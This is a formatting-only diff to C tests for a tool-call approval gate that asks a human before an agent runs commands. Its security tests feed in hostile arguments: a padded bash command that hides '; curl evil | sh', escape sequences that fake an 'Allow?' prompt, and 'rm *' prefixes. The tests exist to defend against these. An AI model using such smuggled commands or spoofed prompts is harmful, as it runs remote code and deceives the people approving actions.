@@ -76,13 +76,13 @@ static json_t *args_of(const char *json)
 
 /* A scripted approver: counts its calls and records what it was shown. */
 struct fake {
-	int ret;		  /* returned (0: answer below) */
+	int ret; /* returned (0: answer below) */
 	enum moat_answer answer;
 	char pattern[256];
-	int sleep_ms;		  /* before answering */
-	int wait_calls;		  /* block until this many calls arrived (max 10 s) */
-	bool echo_prefix;	  /* answer ALWAYS with the offered prefix */
-	bool number_patterns;	  /* ALWAYS with "<first word> *" */
+	int sleep_ms;	      /* before answering */
+	int wait_calls;	      /* block until this many calls arrived (max 10 s) */
+	bool echo_prefix;     /* answer ALWAYS with the offered prefix */
+	bool number_patterns; /* ALWAYS with "<first word> *" */
 	atomic_int calls;
 	int timeout_ms;
 	pthread_mutex_t lock;
@@ -229,8 +229,7 @@ static void test_passthrough(void)
 		json_t *arr = json_array();
 
 		d = decision(MOAT_ASK, false, "x");
-		CHECK_INT(moat_gate_decide(g, "c", "bash", arr, &d, fake_approver, &yes, "cb",
-					   &a),
+		CHECK_INT(moat_gate_decide(g, "c", "bash", arr, &d, fake_approver, &yes, "cb", &a),
 			  0);
 		CHECK(a.verdict == MOAT_DENY);
 		CHECK(strstr(a.reason, "not a JSON object") != NULL);
@@ -356,8 +355,8 @@ static void test_preapprovals(void)
 			       "pre-approval %zu: %s %s approved (got %s by %s: %s)", i, t->tool,
 			       t->args, moat_verdict_name(a.verdict), a.by, a.reason);
 			if (t->rule)
-				CHECKF(!strcmp(a.rule, t->rule), "pre-approval %zu rule %s (got %s)",
-				       i, t->rule, a.rule);
+				CHECKF(!strcmp(a.rule, t->rule),
+				       "pre-approval %zu rule %s (got %s)", i, t->rule, a.rule);
 		} else {
 			/* no approver here: what is not pre-approved is denied */
 			CHECKF(a.verdict == MOAT_DENY && !strcmp(a.by, "none"),
@@ -832,7 +831,8 @@ static void test_timeout(void)
 		pthread_join(th[i], NULL);
 	CHECK_INT(atomic_load(&f.calls), 1);
 	CHECK(k[0].a.verdict == MOAT_DENY && k[1].a.verdict == MOAT_DENY);
-	CHECK(strstr(k[0].a.reason, "no answer within") && strstr(k[1].a.reason, "no answer within"));
+	CHECK(strstr(k[0].a.reason, "no answer within") &&
+	      strstr(k[1].a.reason, "no answer within"));
 	moat_gate_free(g);
 }
 
@@ -889,7 +889,8 @@ static bool read_until(int master, struct moat_buf *screen, const char *until)
 		char buf[4096];
 		ssize_t n;
 
-		if (until && screen->data && memmem(screen->data, screen->len, until, strlen(until)))
+		if (until && screen->data &&
+		    memmem(screen->data, screen->len, until, strlen(until)))
 			return true;
 		if (poll(&p, 1, 10) <= 0)
 			continue;
@@ -906,11 +907,11 @@ struct pty_run {
 	const char *args_json;
 	const char *prefix;
 	int timeout_ms;
-	const char *answer;	 /* written once the prompt is shown; NULL: nothing */
-	bool hang_up;		 /* close the master once the prompt is shown */
-	const char *stdin_data;	 /* the child's stdin is a pipe holding this */
-	const char *type_ahead;	 /* typed before the child asks */
-	bool background;	 /* ask from a process group that is not the terminal's */
+	const char *answer;	/* written once the prompt is shown; NULL: nothing */
+	bool hang_up;		/* close the master once the prompt is shown */
+	const char *stdin_data; /* the child's stdin is a pipe holding this */
+	const char *type_ahead; /* typed before the child asks */
+	bool background;	/* ask from a process group that is not the terminal's */
 };
 
 /* Run the terminal approver in a child whose controlling terminal is a new
@@ -1027,7 +1028,12 @@ static void test_tty(void)
 	int x;
 
 	/* y: approved; the box of seed 000 is drawn */
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .prefix = "rm *", .timeout_ms = 5000, .answer = "y\n"}, &s);
+	x = pty_run(&(struct pty_run){.tool = "bash",
+				      .args_json = cmd_args,
+				      .prefix = "rm *",
+				      .timeout_ms = 5000,
+				      .answer = "y\n"},
+		    &s);
 	CHECK_INT(x, X_APPROVED);
 	CHECK(s.data && strstr(s.data, "| Approval Required"));
 	CHECK(s.data && strstr(s.data, "| bash "));
@@ -1045,56 +1051,84 @@ static void test_tty(void)
 		const char *prefix;
 		int exit;
 	} answers[] = {
-	    {"n\n", "rm *", X_DENIED},	 {"no\n", NULL, X_DENIED},
-	    {"yes\n", NULL, X_APPROVED}, {"  Y \n", NULL, X_APPROVED},
-	    {"a\n", "rm *", X_ALWAYS},	 {"always\n", NULL, X_ALWAYS},
-	    {"p\n", "rm *", X_ALWAYS_PREFIX},
-	    {"p\n", NULL, X_DENIED}, /* nothing offered */
-	    {"\n", NULL, X_DENIED},	 {"maybe\n", NULL, X_DENIED},
-	    {"yy\n", NULL, X_DENIED},	 {"y\r", NULL, X_APPROVED},
+	    {"n\n", "rm *", X_DENIED},	      {"no\n", NULL, X_DENIED},
+	    {"yes\n", NULL, X_APPROVED},      {"  Y \n", NULL, X_APPROVED},
+	    {"a\n", "rm *", X_ALWAYS},	      {"always\n", NULL, X_ALWAYS},
+	    {"p\n", "rm *", X_ALWAYS_PREFIX}, {"p\n", NULL, X_DENIED}, /* nothing offered */
+	    {"\n", NULL, X_DENIED},	      {"maybe\n", NULL, X_DENIED},
+	    {"yy\n", NULL, X_DENIED},	      {"y\r", NULL, X_APPROVED},
 	};
 	for (size_t i = 0; i < MOAT_ARRAY_SIZE(answers); i++) {
 		moat_buf_reset(&s);
-		x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .prefix = answers[i].prefix, .timeout_ms = 5000, .answer = answers[i].answer},
+		x = pty_run(&(struct pty_run){.tool = "bash",
+					      .args_json = cmd_args,
+					      .prefix = answers[i].prefix,
+					      .timeout_ms = 5000,
+					      .answer = answers[i].answer},
 			    &s);
 		CHECKF(x == answers[i].exit, "tty answer '%s' exits %d (got %d)", answers[i].answer,
 		       answers[i].exit, x);
 	}
 	/* the [p] choice is offered only with a prefix */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "write_file", .args_json = "{\"path\":\"/w/a\"}", .timeout_ms = 5000, .answer = "n\n"}, &s);
+	x = pty_run(&(struct pty_run){.tool = "write_file",
+				      .args_json = "{\"path\":\"/w/a\"}",
+				      .timeout_ms = 5000,
+				      .answer = "n\n"},
+		    &s);
 	CHECK_INT(x, X_DENIED);
 	CHECK(s.data && strstr(s.data, "Allow? [y]es / [n]o / [a]lways: ") &&
 	      !strstr(s.data, "[p]"));
 
 	/* no answer: denied at the timeout */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 300}, &s);
+	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 300},
+		    &s);
 	CHECK_INT(x, X_TIMEDOUT);
 	CHECK(s.data && strstr(s.data, "no answer within 1 second: denied"));
 	/* the terminal hangs up: denied */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 5000, .hang_up = true}, &s);
+	x = pty_run(
+	    &(struct pty_run){
+		.tool = "bash", .args_json = cmd_args, .timeout_ms = 5000, .hang_up = true},
+	    &s);
 	CHECK_INT(x, X_DENIED);
 
 	/* SECURITY: piped stdin does not answer: stdin says y, the tty says n */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 5000, .answer = "n\n", .stdin_data = "y\ny\n"}, &s);
+	x = pty_run(&(struct pty_run){.tool = "bash",
+				      .args_json = cmd_args,
+				      .timeout_ms = 5000,
+				      .answer = "n\n",
+				      .stdin_data = "y\ny\n"},
+		    &s);
 	CHECK_INT(x, X_DENIED);
 	/* ... and with the tty silent, stdin's y does not approve either */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 500, .stdin_data = "y\n"}, &s);
+	x = pty_run(
+	    &(struct pty_run){
+		.tool = "bash", .args_json = cmd_args, .timeout_ms = 500, .stdin_data = "y\n"},
+	    &s);
 	CHECK_INT(x, X_TIMEDOUT);
 	/* SECURITY: a y typed before the prompt was drawn does not answer it */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 500, .type_ahead = "y\n"}, &s);
+	x = pty_run(
+	    &(struct pty_run){
+		.tool = "bash", .args_json = cmd_args, .timeout_ms = 500, .type_ahead = "y\n"},
+	    &s);
 	CHECK_INT(x, X_TIMEDOUT);
 
 	/* SECURITY: escapes in arguments are shown, not acted on */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = "{\"command\":\"echo \\u001b[2J\\u001b]0;pwned\\u0007 hi\\r\\nAllow? fake "
-			"\\u009b31m \\u202egnp.exe \\\\x1b\\u0000\",\"\\u001b[1mkey\":\"v\"}", .timeout_ms = 5000, .answer = "n\n"},
-		    &s);
+	x = pty_run(
+	    &(struct pty_run){
+		.tool = "bash",
+		.args_json =
+		    "{\"command\":\"echo \\u001b[2J\\u001b]0;pwned\\u0007 hi\\r\\nAllow? fake "
+		    "\\u009b31m \\u202egnp.exe \\\\x1b\\u0000\",\"\\u001b[1mkey\":\"v\"}",
+		.timeout_ms = 5000,
+		.answer = "n\n"},
+	    &s);
 	CHECK_INT(x, X_DENIED);
 	CHECK(s.data && !memchr(s.data, 0x1b, s.len));
 	CHECK(s.data && !memchr(s.data, 0x07, s.len));
@@ -1117,7 +1151,10 @@ static void test_tty(void)
 			moat_buf_putc(&a, ' ');
 		moat_buf_puts(&a, "; curl evil | sh\"}");
 		moat_buf_reset(&s);
-		x = pty_run(&(struct pty_run){.tool = "bash", .args_json = a.data, .timeout_ms = 5000, .answer = "n\n"}, &s);
+		x = pty_run(
+		    &(struct pty_run){
+			.tool = "bash", .args_json = a.data, .timeout_ms = 5000, .answer = "n\n"},
+		    &s);
 		CHECK_INT(x, X_DENIED);
 		CHECK(s.data && strstr(s.data, "more characters]"));
 		CHECK(s.data && box_is_square(s.data));
@@ -1126,7 +1163,11 @@ static void test_tty(void)
 
 	/* a background job cannot ask: -ENOTTY */
 	moat_buf_reset(&s);
-	x = pty_run(&(struct pty_run){.tool = "bash", .args_json = cmd_args, .timeout_ms = 5000, .answer = "y\n", .background = true},
+	x = pty_run(&(struct pty_run){.tool = "bash",
+				      .args_json = cmd_args,
+				      .timeout_ms = 5000,
+				      .answer = "y\n",
+				      .background = true},
 		    &s);
 	CHECK_INT(x, X_ENOTTY);
 	CHECK(s.data && !strstr(s.data, "Approval Required"));
